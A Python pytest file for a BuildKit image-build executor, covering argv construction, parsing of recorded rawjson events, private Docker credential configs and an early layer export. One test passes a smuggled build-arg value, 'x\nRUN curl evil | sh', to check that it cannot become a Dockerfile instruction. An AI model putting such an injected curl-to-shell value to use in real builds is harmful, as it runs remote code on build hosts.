"""The BuildKit executor's pure parts: the command line it runs and how it reads BuildKit's events.

The events are a real recording (``tests/fixtures/buildkit/``): ``docker buildx build
--progress=rawjson`` of a 4-step Dockerfile on Docker 26.1.5 / buildx 0.13.1, the first two
steps cached, the last printing a line with terminal colour codes.
"""

from __future__ import annotations

import dataclasses
import io
import json
import os
import sys
import time
from pathlib import Path

import pytest

from builder.oci import buildevents, buildkit
from builder.oci.engine import BuildRequest

RECORDING = Path(__file__).parent / "fixtures" / "buildkit" / "rawjson-4-steps-2-cached.txt"


def test_argv_passes_every_value_as_one_argument_and_no_network_flag():
    request = BuildRequest(
        dockerfile="images/cpu/Dockerfile", context=".", platform="linux/amd64",
        build_args={"WHEELS_TORCH": "torch==2.13.0+cpu --hash=sha256:ab", "EVIL": "x\nRUN curl evil | sh"},
        contexts={"wheels-torch": "/w/torch"}, labels={"a": "b c"}, cache_from=("type=registry,ref=r:cpu",),
        cache_to=("type=inline",), compression="zstd")
    argv = buildkit.argv(request, metadata="/tmp/m.json")
    assert argv[:3] == ["docker", "buildx", "build"]
    assert "--build-arg" in argv and "WHEELS_TORCH=torch==2.13.0+cpu --hash=sha256:ab" in argv
    assert "EVIL=x\nRUN curl evil | sh" in argv, "a value stays one argument: it can't become an instruction"
    assert argv[argv.index("--build-context") + 1] == "wheels-torch=/w/torch"
    assert argv[argv.index("--output") + 1] == "type=docker,compression=zstd,force-compression=true,oci-mediatypes=true"
    plain = buildkit.argv(BuildRequest(dockerfile="D", context=".", platform="linux/amd64"))
    # gzip is forced too: a layer whose only blob is zstd (built for a zstd target) is compressed again
    assert plain[plain.index("--output") + 1] == "type=docker,compression=gzip,force-compression=true"
    assert "--network" not in argv and not any(a.startswith("--network") for a in argv)
    assert argv[-1] == "." and "--provenance=false" in argv


def test_the_recorded_events_give_the_steps_and_the_cached_ones():
    steps, reader = buildevents.Steps(), buildevents.Lines()
    started: list[str] = []
    lines: list[str] = []
    for event in buildevents.events(io.StringIO(RECORDING.read_text())):
        assert "text" not in event, event  # every object of the recording parses, pretty-printed as it is
        for vertex in event.get("vertexes") or []:
            if (name := steps.update(vertex)) is not None:
                started.append(name)
        lines += reader.feed(event)
    lines += reader.rest()
    assert sorted(n.split("]")[0] for n in started) == ["[common 2/4", "[common 3/4", "[common 4/4"]  # FROM: no step
    assert len(steps.names) == 3 and len(steps.done) == 3 and len(steps.cached) == 2
    assert "bold line one" in lines and "line 2" in lines, lines  # one line per line, colours gone
    assert not any("\x1b" in line for line in lines)


def test_following_the_recorded_progress_logs_each_step_once_and_returns_the_errors():
    """What ``run`` reads from buildx (``_follow``): a line per step as it starts, the steps' output, the
    progress ending on BuildKit's own work, and buildx's plain text as the errors."""
    steps = buildevents.Steps()
    progress: list[tuple[int, int, str]] = []
    logged: list[str] = []
    errors = buildkit._follow(io.StringIO(RECORDING.read_text() + "ERROR: boom\n"), steps,
                              lambda done, total, text: progress.append((done, total, text)), logged.append)
    assert errors == ["ERROR: boom"]
    assert [line.split("]")[0] for line in logged if line.startswith("#")] == [
        "#1 [common 4/4", "#2 [common 3/4", "#3 [common 2/4"]
    assert logged[-2:] == ["bold line one", "line 2"]
    assert progress[-1] == (3, 3, "exporting to image")


def test_a_line_written_a_token_at_a_time_is_one_line():
    """uv writes `+ accelerate==1.15.0` in four writes (coloured): BuildKit sends four logs."""
    import base64

    def log(text: str) -> dict:
        return {"logs": [{"vertex": "sha256:v", "stream": 1, "data": base64.b64encode(text.encode()).decode()}]}

    reader = buildevents.Lines()
    got = [line for text in (" \x1b[32m+\x1b[39m ", "\x1b[1maccelerate", "==", "1.15.0\nnext", " line\n", "tail")
           for line in reader.feed(log(text))]
    assert got == [" + accelerate==1.15.0", "next line"] and list(reader.rest()) == ["tail"]


def test_plain_text_from_buildx_passes_as_text():
    text = 'ERROR: failed to solve: process "/bin/sh -c false" did not complete successfully: exit code: 1\n'
    events = list(buildevents.events(io.StringIO('{\n  "vertexes": []\n}\n' + text)))
    assert events == [{"vertexes": []}, {"text": text.strip()}]
    assert "exit code: 1" in buildkit._build_error([e["text"] for e in events if "text" in e], 1)


def test_credentials_reach_buildx_in_a_private_config_only(tmp_path, monkeypatch):
    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path / "user"))
    (tmp_path / "user").mkdir()
    (tmp_path / "user" / "config.json").write_text(json.dumps({"auths": {"other:5000": {"auth": "eA=="}}}))
    with buildkit.docker_config("127.0.0.1:5001", {"username": "u", "password": "p"}) as env:
        private = Path(env["DOCKER_CONFIG"])
        config = json.loads((private / "config.json").read_text())
        assert set(config["auths"]) == {"other:5000", "127.0.0.1:5001"}
        assert (private / "config.json").stat().st_mode & 0o077 == 0
    assert not private.exists(), "the private config is removed after the build"
    assert json.loads((tmp_path / "user" / "config.json").read_text())["auths"].keys() == {"other:5000"}


def test_the_recorded_events_say_where_the_time_went():
    """Each vertex's started-to-completed seconds, summed per phase: the recording's four steps (FROM
    aside: the base lookup), its two contexts and the Dockerfile, the base's metadata, the export."""
    phases = buildevents.Phases()
    for event in buildevents.events(io.StringIO(RECORDING.read_text())):
        for vertex in event.get("vertexes") or []:
            phases.update(vertex)
        for status in event.get("statuses") or []:
            phases.update_status(status)
    seconds = phases.seconds()
    assert sorted(seconds) == ["base and cache", "context", "export", "export: layers", "export: unpack", "steps"]
    # the export's parts, from its statuses: the layers ~0.03 s, the unpack ~0.01 s, of the export's 0.06 s
    assert seconds["export: layers"] + seconds["export: unpack"] < seconds["export"], seconds
    assert seconds["export: layers"] > 0 and seconds["export: unpack"] > 0, seconds
    # the RUN that prints took 0.194 s of the steps' 0.196 s; the export 0.058 s
    assert 0.19 <= seconds["steps"] <= 0.21 and 0.05 <= seconds["export"] <= 0.07
    assert 0.04 <= seconds["context"] <= 0.06, seconds  # the build definition, both .dockerignore, w's files


def test_the_bench_reads_the_baselines_phases_as_the_builder_reads_its_own():
    """bench/ imports nothing of builder, so it parses the baseline's rawjson itself: the same phases."""
    from bench.project import rawjson_phases

    phases = buildevents.Phases()
    for event in buildevents.events(io.StringIO(RECORDING.read_text())):
        for vertex in event.get("vertexes") or []:
            phases.update(vertex)
        for status in event.get("statuses") or []:
            phases.update_status(status)
    assert rawjson_phases(RECORDING.read_text()) == phases.seconds()
    assert "export: layers" in phases.seconds()


def test_a_build_without_buildx_says_how_to_install_it(tmp_path, monkeypatch):
    """A docker CLI without the buildx plugin (a stand-in script answering as Docker 26's CLI does):
    the failed build is reported as buildx missing, with the package to install, not as docker's usage text."""
    from builder.config.errors import UserError

    fake = tmp_path / "bin" / "docker"
    fake.parent.mkdir()
    fake.write_text("#!/bin/sh\necho \"docker: 'buildx' is not a docker command.\" >&2\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", str(fake.parent))
    with pytest.raises(UserError, match="docker buildx is not installed"):
        buildkit.run(BuildRequest(dockerfile="Dockerfile", context=".", platform="linux/amd64"), cwd=tmp_path)


#: A stand-in ``docker`` CLI (Python): ``buildx build`` of the image prints one step of the
#: wheel-layers stage (cached when the file ``cached`` is in its folder), then the export, and names
#: its image; the early export (``--target wheel-layers``) records its argv and pid and runs until
#: stopped (fails at once when ``early-fails`` is there). Its folder is written into it: the builder
#: hands a child only the environment its tool reads. What BuildKit does with both builds is the
#: engine tests' (tests/engine/test_build.py).
FAKE_DOCKER = '''#!{python}
import json, os, sys, time
args = sys.argv[1:]
out = {out!r}
if "--target" in args and args[args.index("--target") + 1] == "wheel-layers":
    with open(os.path.join(out, "early.json"), "w") as f:
        json.dump({{"argv": args, "pid": os.getpid()}}, f)
    if os.path.exists(os.path.join(out, "early-fails")):
        sys.exit(1)
    time.sleep(60)
    sys.exit(0)
cached = os.path.exists(os.path.join(out, "cached"))
step = {{"digest": "sha256:s", "name": "[wheel-layers 1/2] RUN install", "started": "2026-12-07T05:00:00.0Z"}}
print(json.dumps({{"vertexes": [dict(step, cached=True, completed="2026-12-07T05:00:00.0Z") if cached else step]}}),
      file=sys.stderr, flush=True)
time.sleep(0.5)  # the early export starts meanwhile
print(json.dumps({{"vertexes": [dict(step, completed="2026-12-07T05:00:01.0Z")]}}), file=sys.stderr, flush=True)
with open(args[args.index("--metadata-file") + 1], "w") as f:
    json.dump({{"containerimage.digest": "sha256:" + "a" * 64}}, f)
'''


@pytest.fixture
def fake_docker(tmp_path, monkeypatch):
    fake = tmp_path / "bin" / "docker"
    fake.parent.mkdir()
    fake.write_text(FAKE_DOCKER.format(python=sys.executable, out=str(tmp_path)))
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{fake.parent}:{os.environ['PATH']}")
    return tmp_path


def _early_request() -> BuildRequest:
    return BuildRequest(dockerfile="Dockerfile", context=".", platform="linux/amd64", compression="zstd",
                        build_args={"WHEELS_TORCH": "torch==2.13.0+cpu --hash=sha256:ab"},
                        contexts={"wheels-torch": "/w/torch"}, labels={"a": "b"}, tags=("r:cpu",),
                        cache_from=("type=registry,ref=r:cache",), cache_to=("type=inline",),
                        early_stage="wheel-layers")


def test_the_wheel_layers_are_exported_early_and_that_build_stopped_with_the_image(fake_docker):
    """The wheel-layers stage's first step runs: a second build of the same arguments and contexts to
    that stage starts, its layers compressed as the image's and nothing stored (no tag, label or
    cache export); once the image's build ends, it is stopped (it was still running), at once."""
    started = time.monotonic()
    result = buildkit.run(_early_request(), cwd=fake_docker)
    assert result.ids == ("sha256:" + "a" * 64,)
    early = json.loads((fake_docker / "early.json").read_text())
    argv = early["argv"]
    assert argv[argv.index("--target") + 1] == "wheel-layers"
    assert argv[argv.index("--output") + 1] == "type=image,store=false,compression=zstd,force-compression=true,oci-mediatypes=true"
    assert "WHEELS_TORCH=torch==2.13.0+cpu --hash=sha256:ab" in argv and "wheels-torch=/w/torch" in argv
    assert not {"--tag", "--label", "--cache-from", "--cache-to", "--metadata-file"} & set(argv), argv
    assert not Path(f"/proc/{early['pid']}").exists(), "the early export is stopped when the image's build ends"
    assert time.monotonic() - started < 10  # SIGINT stopped it: not CANCEL_S, not its 60 s


def test_no_early_export_when_the_wheel_layers_are_cached_or_not_asked_for(fake_docker):
    (fake_docker / "cached").touch()
    buildkit.run(_early_request(), cwd=fake_docker)
    assert not (fake_docker / "early.json").exists(), "a cached step's layer has its blob already"
    (fake_docker / "cached").unlink()
    buildkit.run(dataclasses.replace(_early_request(), early_stage=None), cwd=fake_docker)
    buildkit.run(dataclasses.replace(_early_request(), stage="common"), cwd=fake_docker)  # a stage's own build
    assert not (fake_docker / "early.json").exists()


def test_a_failed_early_export_fails_nothing(fake_docker):
    (fake_docker / "early-fails").touch()
    result = buildkit.run(_early_request(), cwd=fake_docker)
    assert (fake_docker / "early.json").exists() and result.ids == ("sha256:" + "a" * 64,)
    assert "export: early" not in result.phases

